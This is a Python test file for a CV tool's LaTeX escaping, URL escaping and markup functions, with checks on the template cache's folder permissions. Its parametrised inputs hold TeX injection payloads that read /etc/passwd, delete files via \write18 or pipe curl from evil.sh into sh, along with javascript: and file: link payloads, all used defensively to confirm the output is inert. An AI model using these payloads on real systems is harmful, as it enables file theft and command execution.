"""The one place user text becomes TeX: `escape`, `escape_url` and the tiny inline markup.

The checker below reads TeX output the way TeX does (a backslash plus one character is a control
symbol): after removing the escapes `escape` is allowed to produce, no TeX special and no
backslash may remain. Hypothesis throws arbitrary text at it.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cvtool.latex.escape import clean, escape, escape_breakable, escape_url
from cvtool.latex.markup import markup_to_tex

SPECIALS = set("\\{}$&#%_^~")

# Everything `escape` may emit that contains a special, and what each one prints.
SAFE = {
    r"\textbackslash{}": "\\",
    r"\textasciicircum{}": "^",
    r"\textasciitilde{}": "~",
    r"\hspace{0pt}": "\u200b",
    r"\allowbreak{}": "",  # a break point inside a long word
    r"\{": "{",
    r"\}": "}",
    r"\$": "$",
    r"\&": "&",
    r"\#": "#",
    r"\%": "%",
    r"\_": "_",
    "{}": "",  # breaks an input ligature
}
_SAFE_RE = re.compile("|".join(re.escape(k) for k in sorted(SAFE, key=len, reverse=True)))

# What markup may add around escaped text: three commands whose braces are structural.
_MARKUP_OPENERS = re.compile(r"\\textbf\{|\\emph\{|\\href\{")
_URL_ESCAPES = re.compile(r"\\[#%&$]")  # hyperref reads \# \% \& \$ back as # % & $


# cvtool.glyphs' switch to a fallback font around characters the text font lacks (cvtool's own TeX)
_FALLBACK = re.compile(r"\\texorpdfstring\{\{\\cvfallback(?:font|cjk)\{[^{}]*\}\{[^{}]*\}\{\d+\}(?P<run>[^{}]*)\}\}\{(?P=run)\}")


def unescaped_specials(tex: str) -> list[str]:
    """The TeX specials left in `tex` once the known-safe escapes are taken out ([] = safe)."""
    rest = _SAFE_RE.sub("", _FALLBACK.sub(lambda m: m["run"], tex))
    return [c for c in rest if c in SPECIALS]


def unescape(tex: str) -> str:
    return _SAFE_RE.sub(lambda m: SAFE[m.group()], _FALLBACK.sub(lambda m: m["run"], tex))


def braces_balanced(tex: str) -> bool:
    depth = 0
    for c in re.sub(r"\\[{}]", "", tex):
        if c == "{":
            depth += 1
        elif c == "}":
            depth -= 1
            if depth < 0:
                return False
    return depth == 0


LIGATURES = ("--", "``", "''", "!`", "?`", "<<", ">>")

# ---------------------------------------------------------------- the checker itself


def test_checker_catches_unsafe_output():
    assert unescaped_specials(r"\input{x}") == ["\\", "{", "}"]
    assert unescaped_specials(r"50% off") == ["%"]
    assert unescaped_specials(r"\textbackslash{}\{ok\}") == []
    assert unescaped_specials("a_b") == ["_"]
    assert not braces_balanced("{a}}")
    assert braces_balanced(r"\textbf{a\}}")


# ---------------------------------------------------------------- escape


def test_every_special_is_escaped():
    assert escape("& % $ # _ { } ~ ^ \\") == (
        r"\& \% \$ \# \_ \{ \} \textasciitilde{} \textasciicircum{} \textbackslash{}"
    )


@pytest.mark.parametrize(
    "text, tex",
    [
        ("R&D", r"R\&D"),
        ("50%", r"50\%"),
        ("$5", r"\$5"),
        ("C#", r"C\#"),
        ("snake_case", r"snake\_case"),
        ("{x}", r"\{x\}"),
        ("~user", r"\textasciitilde{}user"),
        ("x^2", r"x\textasciicircum{}2"),
        ("a\\b", r"a\textbackslash{}b"),
        ("Huawei Noah's Ark Lab", "Huawei Noah's Ark Lab"),
        ("宋庆禹 — 简历", "宋庆禹 — 简历"),
    ],
)
def test_escape_examples(text, tex):
    assert escape(text) == tex


def test_control_characters_are_stripped():
    assert escape("a\x00b\x07c\x1bd\x7fe") == "abcde"
    assert escape("\u202eevil\u2066") == "evil"  # bidi overrides (Cf) go too
    assert escape("a\ud800b") == "ab"  # a lone surrogate
    assert clean("zero\u200bwidth\u200djoin") == "zero\u200bwidth\u200djoin"


def test_whitespace_folds_to_one_space():
    assert escape("a\tb\n  c\r\nd") == "a b c d"
    assert escape("a\u3000b") == "a b"
    assert escape("a\u00a0b") == "a\u00a0b"  # a lone no-break space is kept


def test_zero_width_space_becomes_a_break_point():
    assert escape("x\u200by") == r"x\hspace{0pt}y"


@pytest.mark.parametrize(
    "text, tex",
    [
        ("1--2", "1-{}-2"),
        ("a---b", "a-{}-{}-b"),
        ("``q''", "`{}`q'{}'"),
        ("!`", "!{}`"),
        ("?`", "?{}`"),
        ("<<x>>", "<{}<x>{}>"),
        ("pages 3-4", "pages 3-4"),
    ],
)
def test_input_ligatures_are_broken(text, tex):
    assert escape(text) == tex


@pytest.mark.parametrize(
    "attack",
    [
        r"\input{/etc/passwd}",
        r"\write18{rm -rf ~}",
        r"\immediate\write18{curl evil.sh|sh}",
        r"\def\x{\x}\x",
        r"\catcode`\@=11",
        "\\\\input x",
        r"\csname input\endcsname{/etc/passwd}",
        r"^^5cinput{/etc/passwd}",  # ^^5c is a backslash to TeX
        "%\n\\end{document}",
    ],
)
def test_tex_commands_come_out_inert(attack):
    tex = escape(attack)
    assert unescaped_specials(tex) == []
    assert braces_balanced(tex)
    assert "^^" not in tex
    # nothing is left that TeX would read as a command
    assert "\\" not in _SAFE_RE.sub("", tex)


def test_escape_input_etc_passwd_exactly():
    assert escape(r"\input{/etc/passwd}") == r"\textbackslash{}input\{/etc/passwd\}"
    assert escape(r"\write18{ls}") == r"\textbackslash{}write18\{ls\}"


def test_long_words_get_break_points():
    assert escape("x" * 30) == "x" * 12 + r"\allowbreak{}" + "x" * 12 + r"\allowbreak{}" + "x" * 6
    assert escape("x" * 27) == "x" * 27  # shorter than a long token
    assert escape("宋" * 40) == "宋" * 40  # CJK text breaks between characters anyway
    assert escape("see https://x.org/a_bcdefghijklmnop now") == (
        r"see https:/\allowbreak{}/\allowbreak{}x.\allowbreak{}org/\allowbreak{}a\_\allowbreak{}bcdefghijklm\allowbreak{}nop now"
    )
    # breaking a run of dashes must not recreate a ligature
    tex = escape("a" + "-" * 30 + "b")
    assert "--" not in tex and tex.count("-") == 30


def test_escape_breakable():
    assert escape_breakable("a/b.c@d-e") == r"a/\allowbreak{}b.\allowbreak{}c@\allowbreak{}d-\allowbreak{}e"
    assert escape_breakable("x.org/") == r"x.\allowbreak{}org/"  # no break point at the very end
    assert escape_breakable("a_b/c") == r"a\_b/\allowbreak{}c"


def test_unicode_line_separators_fold_to_space():
    assert escape("a\u2028b\u2029c") == "a b c"


# ---------------------------------------------------------------- escape: properties

_TRICKY = st.sampled_from(list("\\{}$&#%_^~-`'!?<> \t\n\r\x00\x07\u200b\u00a0\u3000") + ["--", "``", "''", "^^5c"])
TEXT = st.lists(st.one_of(_TRICKY, st.characters()), max_size=60).map("".join)


@settings(max_examples=400, deadline=None, database=None)
@given(TEXT)
def test_escape_property_no_unescaped_special(text):
    tex = escape(text)
    assert unescaped_specials(tex) == [], (text, tex)
    assert braces_balanced(tex)


@settings(max_examples=400, deadline=None, database=None)
@given(TEXT)
def test_escape_property_no_ligature_no_control(text):
    tex = escape(text)
    for lig in LIGATURES:
        assert lig not in tex, (text, tex, lig)
    assert not any(c in "\t\n\r" or (ord(c) < 0x20) or c == "\x7f" for c in tex)


@settings(max_examples=400, deadline=None, database=None)
@given(TEXT)
def test_escape_property_prints_what_was_typed(text):
    # reading the escapes back gives the cleaned text (whitespace runs aside)
    assert "".join(unescape(escape(text)).split()) == "".join(clean(text).split())


# ---------------------------------------------------------------- escape_url


def test_escape_url_examples():
    # every % is written \% (a bare % would start a TeX comment); hyperref reads it back as %
    assert escape_url("https://x.org/a b#frag%20~user/{x}\\y") == (
        r"https://x.org/a\%20b\#frag\%20\%7Euser/\%7Bx\%7D\%5Cy"
    )
    assert escape_url("https://例子.com/路径") == (
        r"https://\%E4\%BE\%8B\%E5\%AD\%90.com/\%E8\%B7\%AF\%E5\%BE\%84"
    )
    assert escape_url("https://x.org/^|<>\"`") == r"https://x.org/\%5E\%7C\%3C\%3E\%22\%60"
    assert escape_url("  https://x.org/\n") == "https://x.org/"
    assert escape_url("https://x.org/\x00a") == "https://x.org/a"


def test_escape_url_keeps_query_strings_readable_for_hyperref():
    # hyperref reads \& and \# back as & and # (the real CV's Google Scholar link relies on it)
    assert escape_url("https://scholar.google.com/citations?hl=en&user=C33tGsQAAAAJ") == (
        r"https://scholar.google.com/citations?hl=en\&user=C33tGsQAAAAJ"
    )


@pytest.mark.parametrize(
    "url",
    [
        r"https://x.org/}\input{/etc/passwd",
        r"https://x.org/\write18{ls}",
        "https://x.org/{}{}}}",
        "https://x.org/%}#{",
    ],
)
def test_escape_url_cannot_end_the_argument(url):
    out = escape_url(url)
    rest = _URL_ESCAPES.sub("", out)
    assert not set(rest) & set("\\{} ")


@settings(max_examples=400, deadline=None, database=None)
@given(st.text(alphabet=st.one_of(st.sampled_from(list("\\{}#%~ &$^|\"<>")), st.characters()), max_size=60))
def test_escape_url_property(url):
    out = escape_url(url)
    rest = _URL_ESCAPES.sub("", out)
    assert not set(rest) & set("\\{}%# \t\n~^"), (url, out)
    assert rest.isascii()
    assert all(c.isprintable() for c in out)


# ---------------------------------------------------------------- markup


@pytest.mark.parametrize(
    "text, tex",
    [
        ("**bold**", r"\textbf{bold}"),
        ("*italic*", r"\emph{italic}"),
        ("[site](https://x.org)", r"\href{https://x.org}{site}"),
        ("[mail me](mailto:a@b.org)", r"\href{mailto:a@b.org}{mail me}"),
        (
            "**bold** and *it* and [link](https://x.org/a_b#c)",
            r"\textbf{bold} and \emph{it} and \href{https://x.org/a_b\#c}{link}",
        ),
        ("**a *b* c**", r"\textbf{a \emph{b} c}"),
        ("plain", "plain"),
    ],
)
def test_markup_translated(text, tex):
    assert markup_to_tex(text) == tex


@pytest.mark.parametrize(
    "text",
    [
        "**unpaired and *single",
        "a * b * c",
        "2*3*4",
        "x**",
        "[no url]",
        "[text](not a url)",
    ],
)
def test_unpaired_or_incomplete_markers_are_literal(text):
    assert markup_to_tex(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](file:///etc/passwd)",
        "[x](data:text/html,hi)",
        "[x]( https://x.org)",
    ],
)
def test_only_http_and_mailto_become_links(text):
    tex = markup_to_tex(text)
    assert r"\href" not in tex
    assert tex == escape(text)


def test_tex_inside_markup_is_escaped():
    assert markup_to_tex(r"**\input{x}**") == r"\textbf{\textbackslash{}input\{x\}}"
    assert markup_to_tex("*50% & more*") == r"\emph{50\% \& more}"
    assert markup_to_tex("[50% off_now](https://x.org)") == r"\href{https://x.org}{50\% off\_now}"
    assert markup_to_tex("[a](https://x.org/}\\input{y})") == r"\href{https://x.org/\%7D\%5Cinput\%7By\%7D}{a}"


def test_link_with_parentheses_in_url():
    assert markup_to_tex("[Foo](https://en.wikipedia.org/wiki/Foo_(bar))") == (
        r"\href{https://en.wikipedia.org/wiki/Foo_(bar)}{Foo}"
    )


def _without_math(tex: str) -> str:
    """`tex` without its `\\cvmath{…}{…}{…}` (whitelisted math: cvtool.texmath has its own tests)."""
    while (start := tex.find("\\cvmath{")) >= 0:
        i, depth, groups = start + len("\\cvmath"), 0, 0
        while groups < 3:
            if tex[i] == "\\":
                i += 2
                continue
            depth += {"{": 1, "}": -1}.get(tex[i], 0)
            groups += tex[i] == "}" and depth == 0
            i += 1
        tex = tex[:start] + tex[i:]
    return tex


def _markup_leftovers(tex: str) -> str:
    """`tex` with markup commands' openers reduced to `{`, math and font switches taken out, and
    every safe escape removed."""
    tex = _MARKUP_OPENERS.sub("{", _FALLBACK.sub(lambda m: m["run"], _without_math(tex)))
    tex = _URL_ESCAPES.sub("", tex)
    return _SAFE_RE.sub("", tex)


MARKUP_TEXT = st.lists(
    st.one_of(
        st.sampled_from(["**", "*", "[", "]", "(", ")", "](", "https://x.org/", "mailto:", " ", "\\", "{", "}", "%", "#", "_"]),
        st.characters(),
    ),
    max_size=40,
).map("".join)


@settings(max_examples=400, deadline=None, database=None)
@given(MARKUP_TEXT)
def test_markup_property_only_three_constructs(text):
    tex = markup_to_tex(text)
    rest = _markup_leftovers(tex)
    assert "\\" not in rest, (text, tex)
    assert not set(rest) & (SPECIALS - {"{", "}"}), (text, tex)
    assert braces_balanced(_MARKUP_OPENERS.sub("{", _without_math(tex))), (text, tex)


def test_an_edited_template_is_used_at_once_despite_the_compiled_template_cache(tmp_path):
    """Compiled templates are cached per user; jinja keys them by the template's checksum."""
    import shutil

    from cvtool.latex.render import render_tex
    from cvtool.latex.templates import TEMPLATE

    (tmp_path / TEMPLATE).write_text("first ((( name )))\n", encoding="utf-8")
    assert render_tex({"name": "A & B"}, directory=tmp_path).tex == "first A \\& B\n"
    (tmp_path / TEMPLATE).write_text("second ((( name )))\n", encoding="utf-8")
    assert render_tex({"name": "A & B"}, directory=tmp_path).tex == "second A \\& B\n"
    moved = tmp_path / "moved"
    shutil.copytree(tmp_path, moved, ignore=shutil.ignore_patterns("moved"))
    (moved / TEMPLATE).write_text("third ((( name )))\n", encoding="utf-8")
    assert render_tex({"name": "x"}, directory=moved).tex == "third x\n"


def test_a_template_cache_that_cannot_be_written_costs_a_compile_not_the_render(tmp_path, monkeypatch):
    import jinja2

    from cvtool.latex import render

    cache = render._BytecodeCache(str(tmp_path / "gone"))  # a folder that is not there (or a full disk)
    env = jinja2.Environment(loader=jinja2.DictLoader({"t": "x((1))"}), bytecode_cache=cache)
    assert env.get_template("t").render() == "x((1))"
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "a-file"))
    (tmp_path / "a-file").write_text("", encoding="utf-8")
    assert render._bytecode_cache.__wrapped__() is None  # no cache at all: every render compiles


def test_the_template_cache_is_not_used_in_a_folder_others_can_write(tmp_path, monkeypatch):
    """Loading a compiled template runs its code: the folder must be the user's alone."""
    import hashlib
    from pathlib import Path

    import jinja2

    from cvtool.latex import render

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    recipe = hashlib.sha256(jinja2.__version__.encode() + Path(render.__file__).read_bytes()).hexdigest()[:16]
    folder = tmp_path / "cvtool" / "templates" / recipe
    folder.mkdir(parents=True)
    folder.chmod(0o777)
    assert render._bytecode_cache.__wrapped__() is None
    folder.chmod(0o700)
    assert render._bytecode_cache.__wrapped__() is not None
